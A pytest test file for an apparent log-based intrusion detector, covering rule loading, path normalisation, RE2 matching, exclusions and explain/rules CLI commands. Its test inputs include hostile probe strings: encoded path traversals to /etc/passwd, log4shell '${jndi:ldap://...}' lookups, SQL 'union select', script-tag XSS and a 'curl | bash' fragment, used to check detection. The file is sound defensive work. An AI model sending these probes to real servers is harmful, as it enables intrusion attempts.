"""Rules as data: normalisation, loading and overrides, strict validation, the
matcher's safety and bounds, the rules detector, and the rules/explain commands."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from conftest import ssh_fail
from prometheus_client import CollectorRegistry

from aisentinel.cli import main
from aisentinel.config import ConfigError, parse_config
from aisentinel.detectors.rules import RulesConfig, RulesDetector
from aisentinel.events import HttpRequest, Severity
from aisentinel.rules import RulesError, load_rules
from aisentinel.rules.matcher import Matcher
from aisentinel.rules.model import Rule
from aisentinel.rules.normalise import normalise_target

T0 = 1_735_689_600.0


def req(
    path: str,
    *,
    client: str = "203.0.113.5",
    method: str = "GET",
    status: int = 404,
    agent: str = "Mozilla/5.0",
    ts: float = T0,
    user: str | None = None,
    key_id: str | None = None,
) -> HttpRequest:
    return HttpRequest(ts, "t", client, method, path, status, 0, user, agent, key_id=key_id)


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


LOCAL_RULE = """
[[rules]]
id = "local-secret-probe"
description = "probe of our private path"
severity = "high"
match.path.prefix = ["/private-admin"]
tests = [{ request = "GET /private-admin HTTP/1.1" }]
"""


# --------------------------------------------------------------------------- normalisation


@pytest.mark.parametrize(
    ("raw", "path", "uri"),
    [
        ("/a/%2e%2e/%2e%2e/etc/passwd", "/etc/passwd", "/a/../../etc/passwd"),
        ("/a/%252e%252e%252fetc", "/etc", "/a/../etc"),
        ("/x/%c0%ae%c0%ae/y", "/y", "/x/../y"),
        ("/x/%u002e%u002e/y", "/y", "/x/../y"),
        ("/app/..;/manager/html", "/manager/html", "/app/..;/manager/html"),
        ("/A//B/./C/", "/a/b/c", "/a/b/c/"),
        ("/x\\x5c..\\x5cwin.ini", "/win.ini", "/x/../win.ini"),
        ("/../../../../etc", "/etc", "/../../../../etc"),
    ],
)
def test_normalise_decodes_every_encoding(raw: str, path: str, uri: str) -> None:
    """Repeated %-decoding, overlong UTF-8, %u, nginx escapes, case, // and /./ are undone."""
    target = normalise_target(raw)
    assert (target.path, target.uri) == (path, uri)


def test_normalise_query_plus_is_space_and_decoding_is_bounded() -> None:
    """'+' in a query is a space; deeply nested encodings stop after bounded passes."""
    assert normalise_target("/q?a=1+UNION+SELECT").query == "a=1 union select"
    deep = "/" + "%25" * 50 + "2e"
    assert normalise_target(deep).path.startswith("/%")


# --------------------------------------------------------------------------- loading


def test_local_rule_adds_overrides_and_disables(tmp_path: Path) -> None:
    """A local file adds a rule, replaces a shipped one by id and turns another off."""
    write(tmp_path, "10-local.toml", LOCAL_RULE)
    write(
        tmp_path,
        "20-override.toml",
        """
[[rules]]
id = "log4shell"
description = "our log4shell"
severity = "medium"
match.any.contains = ["${jndi:"]
tests = [{ request = "GET /${jndi:x} HTTP/1.1" }]

[[rules]]
id = "scanner-ua-survey"
enabled = false
""",
    )
    ruleset = load_rules(tmp_path)
    ids = [r.id for r in ruleset.rules]
    assert "local-secret-probe" in ids
    assert "scanner-ua-survey" not in ids
    assert "scanner-ua-survey" in ruleset.disabled
    override = ruleset.get("log4shell")
    assert override is not None
    assert override.local
    assert override.rule.severity is Severity.MEDIUM


def test_bad_rules_are_reported_with_file_id_key_and_reason(tmp_path: Path) -> None:
    """Every problem names its file, rule index and id, the key and the reason (a lone
    value where an array is wanted: "must be an array")."""
    bad = write(
        tmp_path,
        "bad.toml",
        """
[[rules]]
id = "bad-one"
description = "x"
severity = "urgent"
match.path.prefix = ["/x"]

[[rules]]
id = "bad-two"
description = "x"
match.path.regex = ["(a)\\\\1"]
colour = "red"

[[rules]]
id = "bad-three"
description = "x"
match.status = ["4xx"]

[[rules]]
id = "bad-four"
description = "x"
tags = "cve"
match.path.prefix = ["/x"]
""",
    )
    with pytest.raises(RulesError) as info:
        load_rules(tmp_path, builtin=False)
    text = "\n".join(info.value.problems)
    assert (
        f"{bad}: rules[3] (id 'bad-four'): tags: must be an array (for one value: [\"cve\"])"
        in text
    )
    assert f"{bad}: rules[0] (id 'bad-one'): severity: bad severity 'urgent'" in text
    assert f"{bad}: rules[1] (id 'bad-two'): colour: unknown key" in text
    assert "rules[1] (id 'bad-two'): match.path.regex" in text
    assert "RE2" in text
    assert "rules[2] (id 'bad-three'): match: needs a text pattern" in text


def test_check_config_refuses_a_bad_local_rule(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """check-config exits 1 and prints the rules problem under detectors.rules."""
    rules_dir = tmp_path / "rules.d"
    rules_dir.mkdir()
    write(rules_dir, "x.toml", '[[rules]]\nid = "Bad Id"\n')
    config = write(tmp_path, "a.toml", f'[detectors.rules]\nrules_dir = "{rules_dir}"\n')
    assert main(["check-config", str(config)]) == 1
    err = capsys.readouterr().err
    assert "detectors.rules" in err
    assert "x.toml: rules[0]" in err
    assert "id 'Bad Id'" in err


def test_reload_sees_changed_rule_files(tmp_path: Path) -> None:
    """Two configs over the same files are equal; after a file changes they differ (rebuild)."""
    write(tmp_path, "a.toml", LOCAL_RULE)
    first = RulesConfig(rules_dir=tmp_path)
    assert RulesConfig(rules_dir=tmp_path) == first
    write(tmp_path, "a.toml", LOCAL_RULE.replace("/private-admin", "/other-admin"))
    assert RulesConfig(rules_dir=tmp_path) != first


def test_config_filters_by_pack_tag_and_id() -> None:
    """packs, tags and disabled narrow the loaded rules; an unknown pack is refused."""
    only = RulesConfig(rules_dir=None, packs=("scanners",)).ruleset
    assert {r.id for r in only.rules} == {"scanner-ua-attack-tool", "scanner-ua-survey"}
    tagged = RulesConfig(rules_dir=None, tags=("ai",), disabled=("ray-exploits",)).ruleset
    assert tagged.rules
    assert all("ai" in r.tags for r in tagged.rules)
    assert "ray-exploits" not in {r.id for r in tagged.rules}
    with pytest.raises(ConfigError, match="no such shipped pack"):
        parse_config({"detectors": {"rules": {"packs": ["nope"]}}})


# --------------------------------------------------------------------------- matcher


def _rule(**fields: object) -> Rule:
    base: dict[str, object] = {"id": "r", "description": "d"}
    base.update(fields)
    return Rule.model_validate(base)


def test_regex_runs_in_linear_time() -> None:
    """A catastrophic-backtracking pattern matches a long hostile input at once (RE2)."""
    rule = _rule(match={"path": {"regex": ["^/(a+)+$"]}})
    matcher = Matcher([rule])
    start = time.perf_counter()
    rules, _ = matcher.match(req("/" + "a" * 5000 + "b"))
    assert rules == []
    assert time.perf_counter() - start < 2.0  # backtracking would take longer than the universe


def test_not_regex_narrows_a_text_condition_in_matcher_and_explain() -> None:
    """A path condition with ``not_regex`` holds when a pattern matches and no
    ``not_regex`` does, in the matcher and in explain alike."""
    from aisentinel.rules.matcher import explain_rule

    rule = _rule(match={"path": {"regex": ["/\\.env(\\.[^/]*)?$"], "not_regex": ["\\.example$"]}})
    matcher = Matcher([rule])
    for path, hit in (
        ("/.env", True),
        ("/app/.env.production", True),
        ("/.env.example", False),
        ("/.ENV.EXAMPLE", False),
        ("/.env.example.bak", True),
        ("/readme", False),
    ):
        request = req(path)
        assert bool(matcher.match(request)[0]) is hit, path
        assert bool(explain_rule(rule, request)) is hit, path


def test_not_regex_of_an_any_condition_applies_to_each_text_alone() -> None:
    """``any`` holds when one of its texts matches a pattern and not a ``not_regex``: a
    user agent that matches both does not cancel a target that matches the pattern."""
    rule = _rule(match={"any": {"contains": ["evil"], "not_regex": ["good"]}})
    matcher = Matcher([rule])
    assert [r.id for r in matcher.match(req("/evil", agent="evil but good"))[0]] == ["r"]
    assert matcher.match(req("/x", agent="evil but good"))[0] == []
    assert [r.id for r in matcher.match(req("/x", agent="evil"))[0]] == ["r"]


def test_explain_tests_each_logged_text_whole_as_the_matcher_does() -> None:
    """For ``any``, explain and the matcher test the user, host, referer and a
    multi-line body each as one whole text, so they agree, and an exclusion does not
    take off a rule the matcher found in a body."""
    from aisentinel.rules.matcher import Exclusions, explain_rule
    from aisentinel.rules.model import Exclusion

    def body(path: str, text: str, user: str | None = None, **kw: str | None) -> HttpRequest:
        return HttpRequest(T0, "t", "203.0.113.5", "POST", path, 200, 0, user, "x", body=text, **kw)

    cases = [
        (_rule(match={"any": {"contains": ["foo"], "not_regex": ["bar"]}}), "foo\nbar", False),
        (_rule(match={"any": {"contains": ["foo"], "not_regex": ["^foo"]}}), "x\nfoo", True),
        (_rule(match={"any": {"contains": ["foo"], "not_regex": ["^foo"]}}), "foo\nx", False),
        (_rule(match={"any": {"exact": ["foo"]}}), "x\nfoo", False),
        (_rule(match={"any": {"regex": ["^foo$"]}}), "foo\nx", False),
    ]
    for rule, text, hit in cases:
        for request in (
            body("/p", text),
            body("/p", "", user=text),
            body("/p", "", host=text),
            body("/p", "", referer=text),
        ):
            assert bool(Matcher([rule]).match(request)[0]) is hit, (rule.match, request)
            assert bool(explain_rule(rule, request)) is hit, (rule.match, request)
    rule = cases[1][0]
    exclusion = Exclusion.model_validate(
        {"id": "x", "description": "d", "path": {"prefix": ["/p"]}, "params": ["q"], "rules": ["r"]}
    )
    request = body("/p?q=1", "x\nfoo")
    assert Exclusions([exclusion], [rule]).excused_by(rule, request) is None
    assert [r.id for r in Matcher([rule], exclusions=[exclusion]).match(request)[0]] == ["r"]


def test_not_regex_runs_only_when_a_pattern_matched() -> None:
    """A ``not_regex`` is searched only for a text that one of the condition's patterns
    matched, not for every request."""
    rule = _rule(match={"path": {"prefix": ["/admin"], "not_regex": ["/admin/public"]}})
    matcher = Matcher([rule])
    searched: list[str] = []
    negated = matcher._fields["path"]._negated
    (cond,) = negated

    class Counting:
        def __init__(self, regex: object) -> None:
            self.regex = regex

        def search(self, text: str) -> object:
            searched.append(text)
            return self.regex.search(text)  # type: ignore[attr-defined]

    negated[cond] = [Counting(r) for r in negated[cond]]
    assert matcher.match(req("/index.html"))[0] == []
    assert matcher.match(req("/admin/public/x"))[0] == []
    assert [r.id for r in matcher.match(req("/admin/users"))[0]] == ["r"]
    assert searched == ["/admin/public/x", "/admin/users"]


def test_not_regex_is_validated_and_needs_a_pattern_beside_it() -> None:
    """A ``not_regex`` RE2 refuses is refused; a condition with only ``not_regex`` is too."""
    with pytest.raises(ValueError, match="RE2"):
        _rule(match={"path": {"prefix": ["/x"], "not_regex": ["(?=y)"]}})
    with pytest.raises(ValueError, match="give at least one of"):
        _rule(match={"path": {"not_regex": ["y"]}})


def test_regex_rules_match_text_with_a_lone_surrogate() -> None:
    """Text RE2 cannot encode (a lone surrogate) is matched with it replaced, not an error."""
    matcher = Matcher([_rule(match={"user_agent": {"regex": ["zgrab"]}})])
    rules, _ = matcher.match(req("/\udcff", agent="zgrab\udcff/0.x"))
    assert [r.id for r in rules] == ["r"]


def test_verdict_caches_are_bounded() -> None:
    """A flood of distinct targets and agents never grows the caches beyond their size."""
    matcher = Matcher([_rule(match={"path": {"prefix": ["/x"]}})], cache_entries=16)
    for i in range(200):
        matcher.match(req(f"/p{i}", agent=f"agent {i}"))
    assert len(matcher._targets) <= 16
    assert len(matcher._agents) <= 16
    assert len(matcher._requests) <= 16
    assert len(matcher.quiet_requests) <= 16


def test_cached_verdict_still_checks_status_and_method() -> None:
    """A target and agent seen with one status or method match again with another."""
    rule = _rule(match={"path": {"prefix": ["/adm"]}, "method": ["POST"], "status": [404]})
    matcher = Matcher([rule])
    assert matcher.match(req("/admin", method="POST", status=200))[0] == []
    assert not matcher.quiet(req("/admin", method="POST", status=200))
    assert matcher.match(req("/admin", method="POST", status=404))[0] == [rule]
    assert matcher.match(req("/admin", method="GET", status=404))[0] == []
    assert matcher.quiet(req("/admin", method="GET", status=404))
    assert matcher.match(req("/admin", method="POST", status=404))[0] == [rule]


def test_batch_detector_matches_repeats_of_a_first_seen_request() -> None:
    """In one batch, every repeat of a matching request counts, the first seen included."""
    detector = RulesDetector(
        RulesConfig(rules_dir=None, builtin=True, packs=("traversal",), max_keys=100)
    )
    batch = [req("/ok"), *(req("/a/../../etc/passwd", client=f"203.0.113.{i}") for i in range(3))]
    found = detector.observe_many(batch)
    assert [i for i, _ in found] == [1, 2, 3]
    assert detector.matches["path-traversal"] == 3


def test_unquiet_lets_every_rule_table_report_again() -> None:
    """A client reported by a rule is quiet for the rule's window; after unquiet() its
    next matching request is reported again."""
    detector = RulesDetector(
        RulesConfig(rules_dir=None, builtin=True, packs=("traversal",), max_keys=100)
    )
    probe = "/a/../../etc/passwd"
    assert detector.observe(req(probe)) is not None
    assert detector.observe(req(probe, ts=T0 + 1)) is None
    detector.unquiet()
    assert detector.observe(req(probe, ts=T0 + 2)) is not None
    assert detector.observe(req(probe, ts=T0 + 3)) is None


def test_requests_with_a_body_are_never_quieted() -> None:
    """A request with a body is matched in full each time (its body is not cached)."""
    rule = _rule(match={"any": {"contains": ["${jndi:"]}})
    matcher = Matcher([rule])
    plain = req("/v1/chat")
    assert matcher.match(plain._replace(body="hello"))[0] == []
    assert not matcher.quiet(plain._replace(body="hello"))
    assert matcher.match(plain._replace(body="x ${jndi:ldap://e}"))[0] == [rule]
    assert matcher.match(plain)[0] == []
    assert matcher.quiet(plain)


def test_prefix_suffix_exact_and_conditions() -> None:
    """Ops mean what they say, and every field a rule names must hold (methods, status too)."""
    rule = _rule(
        match={
            "path": {"prefix": ["/adm"], "suffix": [".bak"], "exact": ["/x"]},
            "method": ["POST"],
            "status": ["4xx"],
        }
    )
    matcher = Matcher([rule])
    assert matcher.match(req("/admin", method="POST", status=403))[0] == [rule]
    assert matcher.match(req("/a/db.bak", method="POST", status=404))[0] == [rule]
    assert matcher.match(req("/x", method="POST", status=404))[0] == [rule]
    assert matcher.match(req("/y/adm", method="POST", status=404))[0] == []
    assert matcher.match(req("/admin", method="GET", status=404))[0] == []
    assert matcher.match(req("/admin", method="POST", status=200))[0] == []


# --------------------------------------------------------------------------- detector


def test_detector_counts_per_rule_and_key(tmp_path: Path) -> None:
    """threshold/window per rule, keyed by api key; requests without that key are not counted."""
    write(
        tmp_path,
        "k.toml",
        """
[[rules]]
id = "per-key"
description = "three probes per key"
severity = "high"
key = "api_key"
threshold = 3
window = "1m"
match.path.prefix = ["/probe"]
tests = [{ request = "GET /probe HTTP/1.1" }]
""",
    )
    detector = RulesDetector(RulesConfig(rules_dir=tmp_path, builtin=False))
    found = [
        detector.observe(req("/probe", client=f"198.51.100.{i}", key_id="k1", ts=T0 + i))
        for i in range(3)
    ]
    assert found[:2] == [None, None]
    finding = found[2]
    assert finding is not None
    assert finding.key == "k1"
    assert finding.count == 3
    assert finding.severity is Severity.HIGH
    assert "rule per-key" in finding.message
    assert detector.observe(req("/probe", key_id=None, ts=T0 + 5)) is None
    assert detector.expire(T0 + 3600) == 1


def test_finding_names_most_severe_rule_and_lists_others() -> None:
    """One request meeting several rules: one finding, the most severe, the others in evidence."""
    detector = RulesDetector(RulesConfig(rules_dir=None))
    finding = detector.observe(req("/cgi-bin/.%2e/.%2e/bin/sh", agent="${jndi:ldap://x/a}"))
    assert finding is not None
    assert finding.severity is Severity.CRITICAL
    assert "rule=log4shell" in finding.evidence
    also = [e for e in finding.evidence if e.startswith("also=")]
    assert also
    assert "path-traversal" in also[0]
    assert "raw=/cgi-bin/.%2e/.%2e/bin/sh" in finding.evidence
    assert "normalised=/cgi-bin/../../bin/sh" in finding.evidence


def test_a_rebuilt_rules_detector_carries_on_its_counters(tmp_path: Path) -> None:
    """A rules detector that replaces another at a reload exports the matches of each
    rule still loaded and the evictions of its predecessor (a removed rule's go)."""
    write(tmp_path, "a.toml", LOCAL_RULE + LOCAL_RULE.replace("local-secret", "other"))
    old = RulesDetector(RulesConfig(rules_dir=tmp_path, builtin=False, max_keys=1))
    for i in range(3):
        old.observe(req("/private-admin", client=f"198.51.100.{i}", ts=T0 + i))
    new = RulesDetector(
        RulesConfig(rules_dir=tmp_path, builtin=False, max_keys=2, disabled=("other-probe",))
    )
    new.carry_over(old)
    new.observe(req("/private-admin", client="198.51.100.9", ts=T0 + 9))
    registry = CollectorRegistry()
    registry.register(new)
    rule = {"rule": "local-secret-probe"}
    assert registry.get_sample_value("aisentinel_rule_matches_total", rule) == 4
    assert (
        registry.get_sample_value("aisentinel_rule_matches_total", {"rule": "other-probe"}) is None
    )
    [evicted, _] = old.counted()
    assert evicted > 0
    assert new.counted() == (evicted, 0)
    exported = registry.get_sample_value(
        "aisentinel_detector_evictions_total", {"detector": "rules"}
    )
    assert exported == evicted


# --------------------------------------------------------------------------- commands


def test_rules_list_and_show(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """`rules list --json` lists the rules; `rules show` prints one; an unknown id exits 1."""
    config = write(tmp_path, "c.toml", '[detectors.rules]\nrules_dir = ""\n')
    assert main(["rules", "list", "--json", "--config", str(config)]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert {"log4shell", "ollama-digest-traversal"} <= {r["id"] for r in listed}
    assert main(["rules", "show", "log4shell", "--config", str(config)]) == 0
    assert "CVE-2021-44228" in capsys.readouterr().out
    assert main(["rules", "show", "no-such-rule", "--config", str(config)]) == 1


def test_rules_list_text_has_a_header_and_one_line_per_rule(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """`rules list` names its columns, then gives a line per rule and the count."""
    config = write(tmp_path, "c.toml", '[detectors.rules]\nrules_dir = ""\n')
    assert main(["rules", "list", "--config", str(config)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split() == ["ID", "SEVERITY", "PACK", "THRESHOLD", "TAGS", "DESCRIPTION"]
    rules = lines[1:-1]
    assert any(line.startswith("log4shell ") for line in rules)
    assert lines[-1].startswith(f"{len(rules)} rules")


def test_rules_test_prints_matching_lines(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """`rules test FILE` names the rule each matching line met, and counts per rule."""
    log = write(
        tmp_path,
        "access.log",
        '198.51.100.1 - - [01/Jan/2025:00:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0"\n'
        '198.51.100.2 - - [01/Jan/2025:00:00:01 +0000] "GET /vendor/phpunit/phpunit/src/Util/PHP/'
        'eval-stdin.php HTTP/1.1" 404 5 "-" "Mozilla/5.0"\n',
    )
    config = write(tmp_path, "c.toml", '[detectors.rules]\nrules_dir = ""\n')
    assert main(["rules", "test", str(log), "--config", str(config)]) == 0
    out = capsys.readouterr().out
    assert "2: phpunit-eval-stdin" in out
    assert "1 matched a rule" in out


def test_the_readmes_local_rule_loads_from_rules_dir_and_matches(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """The README's example of a local rule, put in rules_dir, passes check-config, is
    listed as local, and `rules test` finds the probe it describes."""
    readme = (Path(__file__).parents[1] / "README.md").read_text()
    example = readme.split("## Detection rules", 1)[1].split("```toml\n", 1)[1].split("```")[0]
    rules_dir = tmp_path / "rules.d"
    rules_dir.mkdir()
    write(rules_dir, "local.toml", example)
    config = write(tmp_path, "c.toml", f'[detectors.rules]\nrules_dir = "{rules_dir}"\n')
    assert main(["check-config", str(config)]) == 0
    [local] = [r for r in load_rules(rules_dir).loaded if r.local]
    assert local.rule.id == "local-old-admin"
    log = write(
        tmp_path,
        "access.log",
        '198.51.100.2 - - [01/Jan/2025:00:00:01 +0000] "GET /old-admin/login.php HTTP/1.1" '
        '404 5 "-" "Mozilla/5.0"\n',
    )
    capsys.readouterr()
    assert main(["rules", "test", str(log), "--config", str(config)]) == 0
    assert "1: local-old-admin" in capsys.readouterr().out


def test_explain_reads_classic_syslog_sshd_lines(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """explain parses a classic-syslog sshd line (no year: taken from the wall clock) and
    shows the brute force a file of five failures makes on its fifth line."""
    config = write(tmp_path, "c.toml", "")
    now = time.time() - 3600
    line = ssh_fail(now, "203.0.113.9", user="admin")
    assert main(["explain", line, "--json", "--config", str(config)]) == 0
    record = json.loads(capsys.readouterr().out)
    assert record["parser"] == "sshd"
    assert record["event"]["client"] == "203.0.113.9"
    assert record["event"]["kind"] == "failed_password"
    assert abs(record["event"]["ts"] - int(now)) < 1
    log = write(
        tmp_path, "auth.log", "".join(ssh_fail(now + i, "203.0.113.9") + "\n" for i in range(5))
    )
    assert main(["explain", "--file", str(log), "--json", "--config", str(config)]) == 0
    records = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
    assert [bool(r["detectors"]) for r in records] == [False] * 4 + [True]
    assert records[4]["detectors"][0]["detector"] == "ssh_bruteforce"


def test_explain_of_an_unknown_format_gives_one_hint(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """explain on a line no parser recognises exits 2 with the hint said once."""
    config = tmp_path / "c.toml"
    config.write_text("")
    assert main(["explain", "hello world", "--config", str(config)]) == 2
    err = capsys.readouterr().err
    assert "cannot tell the log format" in err
    assert err.count("name it") == 1


def test_explain_escapes_attacker_text(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """explain shows parser, event, rule and why, control characters escaped; --json keeps them."""
    config = write(tmp_path, "c.toml", '[detectors.rules]\nrules_dir = ""\n')
    line = (
        '203.0.113.9 - - [01/Jan/2025:00:00:00 +0000] "GET /?x=%24%7Bjndi:ldap://a/b%7D HTTP/1.1"'
        ' 200 5 "-" "evil\x1b[2J\u202e"'
    )
    assert main(["explain", line, "--config", str(config)]) == 0
    out = capsys.readouterr().out
    assert "parser nginx -> HttpRequest" in out
    assert "rule log4shell" in out
    assert "because any contains ${jndi:" in out
    assert "detector rules (critical)" in out
    assert "\x1b" not in out
    assert "\u202e" not in out
    assert main(["explain", line, "--json", "--config", str(config)]) == 0
    record = json.loads(capsys.readouterr().out)
    assert record["event"]["user_agent"] == "evil\x1b[2J\u202e"
    assert record["rules"][0]["id"] == "log4shell"


@pytest.mark.parametrize("fmt", ["nginx", "nginx-json"])
def test_explain_rules_test_and_replay_name_the_client_behind_a_trusted_proxy(
    fmt: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """explain and rules test read a line under the config's [parsers] trusted_proxies and
    forwarded_header as replay (and the daemon) do: the client is the forwarded one."""
    config = write(
        tmp_path,
        "c.toml",
        '[parsers]\ntrusted_proxies = ["127.0.0.1/32"]\nforwarded_header = "real_ip"\n'
        '[detectors.rules]\nrules_dir = ""\n',
    )
    if fmt == "nginx":
        line = (
            '127.0.0.1 - - [01/Jan/2025:00:00:00 +0000] "GET /?x=%24%7Bjndi:ldap://a/b%7D '
            'HTTP/1.1" 404 5 "-" "curl/8" "203.0.113.9"'
        )
        client = "203.0.113.9"
    else:
        line = json.dumps(
            {
                "time": "1735689600.000",
                "remote_addr": "127.0.0.1",
                "xff": "203.0.113.9",
                "real_ip": "198.51.100.4",
                "request_method": "GET",
                "request_uri": "/?x=%24%7Bjndi:ldap://a/b%7D",
                "status": "404",
                "http_user_agent": "curl/8",
            }
        )
        client = "198.51.100.4"  # forwarded_header = "real_ip"
    log = write(tmp_path, "access.log", line + "\n")
    assert main(["explain", line, "--json", "--format", fmt, "--config", str(config)]) == 0
    assert json.loads(capsys.readouterr().out)["event"]["client"] == client
    argv = ["rules", "test", str(log), "--json", "--format", fmt, "--config", str(config)]
    assert main(argv) == 0
    assert json.loads(capsys.readouterr().out.splitlines()[0])["client"] == client
    argv = ["replay", str(log), "--json", "--format", fmt, "--config", str(config)]
    assert main(argv) == 0
    targets = {json.loads(x).get("target") for x in capsys.readouterr().out.splitlines()}
    assert client in targets


def test_explain_says_an_error_line_from_a_trusted_proxy_is_left_out(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """An nginx-error auth failure whose client is a trusted proxy is said to be left out
    on purpose (the error log cannot name the client), not "not in this format", and
    explain exits 0: the line was understood."""
    config = write(tmp_path, "c.toml", '[parsers]\ntrusted_proxies = ["10.0.0.2/32"]\n')
    line = (
        '2025/01/01 00:00:00 [error] 2833#0: *1 user "admin": password mismatch, client: '
        '10.0.0.2, server: ai, request: "GET / HTTP/1.1", host: "ai"'
    )
    argv = ["explain", line, "--format", "nginx-error", "--config", str(config)]
    assert main(argv) == 0
    out = capsys.readouterr().out
    assert "not in this format" not in out
    assert "no event, left out: its client 10.0.0.2 is a trusted proxy" in out
    assert main([*argv, "--json"]) == 0
    record = json.loads(capsys.readouterr().out.splitlines()[0])
    assert record["event"] is None
    assert record["skipped"].startswith("its client 10.0.0.2 is a trusted proxy")
    other = line.replace("10.0.0.2", "203.0.113.9")
    assert main(["explain", other, "--format", "nginx-error", "--config", str(config)]) == 0
    assert "no event" not in capsys.readouterr().out


def test_explain_file_shows_the_untrusted_local_proxy_notice(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """explain --file shows the notice the daemon would log for the file as a whole:
    every client is an untrusted local proxy (escaped; in --json, a notice record)."""
    config = write(tmp_path, "c.toml", "")
    line = (
        '127.0.0.1 - - [01/Jan/2025:00:00:00 +0000] "GET /api/tags HTTP/1.1" 200 5 "-" '
        '"curl/8" "203.0.113.9"'
    )
    log = write(tmp_path, "access.log", (line + "\n") * 60)
    argv = ["explain", "--file", str(log), "--format", "nginx", "--config", str(config)]
    assert main(argv) == 0
    out = capsys.readouterr().out
    assert out.count("note: most requests come from 127.0.0.1") == 1
    assert main([*argv, "--json"]) == 0
    notices = [r for r in map(json.loads, capsys.readouterr().out.splitlines()) if "notice" in r]
    assert [n["peer"] for n in notices] == ["127.0.0.1"]
    assert "trusted_proxies" in notices[0]["notice"]


def _unencodable(*_args: object, **_kw: object) -> int:
    raise UnicodeEncodeError("utf-8", "/a\udcff", 2, 3, "surrogates not allowed")


@pytest.mark.parametrize("command", ["explain", "rules-test"])
def test_a_line_that_cannot_be_processed_is_not_blamed_on_the_format(
    command: str,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """explain / rules test --format X say a line is not valid Unicode, not to name --format."""
    monkeypatch.setattr("aisentinel.explain.explain_lines", _unencodable)
    monkeypatch.setattr("aisentinel.explain.rules_test", _unencodable)
    config = write(tmp_path, "c.toml", "")
    log = write(tmp_path, "j.log", "x\n")
    argv = ["rules", "test", str(log)] if command == "rules-test" else ["explain", "x"]
    assert main([*argv, "--format", "nginx-json", "--config", str(config)]) == 2
    err = capsys.readouterr().err
    assert "a line holds text that is not valid Unicode" in err
    assert "surrogates not allowed" in err
    assert "--format" not in err


# --------------------------------------------------------------------------- exclusions


SEARCH = "/api/v1/chats/search?text={}&page=1"


def _shipped_detector() -> RulesDetector:
    return RulesDetector(RulesConfig(rules_dir=None))


def test_search_text_on_a_served_app_route_is_no_finding() -> None:
    """Injection-looking text a user searched for in Open WebUI (answered 200) makes no
    finding, whatever the rule family it resembles."""
    det = _shipped_detector()
    for text in (
        "document.cookie%20httponly",
        "%3Cscript%3E%20tag",
        "union%20select%20postgres",
        "sleep(5)%20python",
        "%7B%7B7*7%7D%7D%20jinja",
        "curl%20%7C%20bash",
        "javascript%3A%20void(0)",
        "..%2F..%2Fetc%2Fpasswd",
    ):
        assert det.observe(req(SEARCH.format(text), status=200)) is None, text


def test_the_same_probe_answered_otherwise_or_elsewhere_is_still_banned() -> None:
    """The route's search text answered 401/403/404 (a scanner, no session), a probe in
    another parameter, on another route or outside the covered families still gives a
    HIGH finding."""
    probes = [
        (SEARCH.format("%3Cscript%3Ealert(1)%3C/script%3E"), 401),
        (SEARCH.format("%3Cscript%3Ealert(1)%3C/script%3E"), 403),
        (SEARCH.format("%3Cscript%3Ealert(1)%3C/script%3E"), 404),
        ("/api/v1/chats/search?text=hello&page=1%20union%20select%201,2", 200),
        ("/api/v1/chats/search/..%2F..%2Fetc%2Fpasswd?text=x", 200),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 200),
        ("/index.php?id=1%20union%20select%201,2,3", 200),
        ("/search?text=%3Cscript%3Ealert(1)%3C/script%3E", 200),
        (SEARCH.format("%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D"), 200),
    ]
    for path, status in probes:
        found = _shipped_detector().observe(req(path, status=status))
        assert found is not None, (path, status)
        assert found.severity >= Severity.HIGH


def test_exclusion_parameter_names_are_compared_decoded_and_folded() -> None:
    """``TeXt=`` and ``te%78t=`` name the excluded parameter; ``textx=`` does not."""
    det = _shipped_detector()
    assert det.observe(req("/api/v1/chats/search?TeXt=%3Cscript%3E", status=200)) is None
    assert det.observe(req("/api/v1/chats/search?te%78t=%3Cscript%3E", status=200)) is None
    found = det.observe(req("/api/v1/chats/search?textx=%3Cscript%3E", status=200))
    assert found is not None


LOCAL_EXCLUSION = """
[[exclusions]]
id = "wiki-search"
description = "our wiki's search box"
path.prefix = ["/wiki/search"]
params = ["Q"]
rules = ["xss-probe"]
status = [200, "3xx"]
"""


def test_local_exclusions_load_narrow_and_turn_off_shipped_ones(tmp_path: Path) -> None:
    """A local [[exclusions]] table applies to the rules it names, on its statuses; an
    ``enabled = false`` one turns off a shipped exclusion of that id."""
    write(tmp_path, "a.toml", LOCAL_EXCLUSION)
    matcher = Matcher((ruleset := load_rules(tmp_path)).rules, exclusions=ruleset.exclusions)
    ids = lambda path, status: [r.id for r in matcher.match(req(path, status=status))[0]]  # noqa: E731
    assert ids("/wiki/search?q=%3Cscript%3E", 200) == []
    assert ids("/wiki/search?q=%3Cscript%3E", 302) == []
    assert ids("/wiki/search?q=%3Cscript%3E", 204) == ["xss-probe"]
    assert ids("/wiki/search?q=union%20select%201", 200) == ["sqli-union-select"]
    assert {x.id for x in ruleset.exclusions} >= {"wiki-search", "open-webui-search-text"}
    write(tmp_path, "b.toml", '[[exclusions]]\nid = "open-webui-search-text"\nenabled = false\n')
    ruleset = load_rules(tmp_path)
    assert "open-webui-search-text" not in {x.id for x in ruleset.exclusions}
    matcher = Matcher(ruleset.rules, exclusions=ruleset.exclusions)
    assert ids(SEARCH.format("%3Cscript%3E"), 200) == ["xss-probe"]


def test_shipped_exclusions_load_whatever_packs_selects() -> None:
